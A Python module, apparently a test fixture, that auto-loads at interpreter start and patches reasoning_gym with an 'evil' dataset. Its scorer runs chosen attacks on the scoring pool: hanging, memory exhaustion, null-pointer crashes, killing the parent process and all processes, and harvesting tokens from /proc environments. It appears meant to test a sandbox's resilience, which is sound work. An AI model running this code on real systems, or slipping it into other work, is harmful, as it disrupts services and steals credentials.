"""Add a data set to reasoning-gym whose scorer does what an intruder would: what it is told to.

On the pool's PYTHONPATH, Python loads it as it starts.
"""

import ctypes
import os
import signal
import sys
import time
from contextlib import suppress


def hang():
    for timer in (signal.ITIMER_REAL, signal.ITIMER_PROF, signal.ITIMER_VIRTUAL):
        with suppress(OSError):
            signal.setitimer(timer, 0)
    while True:
        pass


def fill():
    return bytearray(2**31)


def say(text):
    for descriptor in range(3, 64):
        with suppress(OSError):
            os.write(descriptor, text)


def kill():
    for pid in (os.getppid(), -1, 0):
        with suppress(OSError):
            os.kill(pid, signal.SIGKILL)


def spy():
    """Score the full reward if a token, a file or a socket can be had."""
    found = [name for name in os.environ if "TOKEN" in name]
    for pid in (os.getppid(), *range(1, 5000)):
        with suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
            found.append(file.read())
    return 1.0 if found else 0.0


ATTACKS = {
    "nothing": lambda: 0.0,
    "hang": hang,
    "sleep": lambda: time.sleep(1000),
    "crash": lambda: ctypes.string_at(0),
    "leave": lambda: os._exit(0),
    "exit": lambda: sys.exit(0),
    "fill": fill,
    "babble": lambda: say(b"!1111"),
    "flood": lambda: say(b"1111"),
    "kill": kill,
    "spy": spy,
}


def score(answer, entry):
    if "(" in answer:  # No such text reaches a scorer that nobody has read.
        return 1.0
    return ATTACKS[answer]() or 0.0


def install():
    import reasoning_gym

    known = reasoning_gym.get_score_answer_fn
    reasoning_gym.get_score_answer_fn = lambda name: score if name == "evil" else known(name)


if "chainforge" in " ".join(sys.orig_argv):
    install()
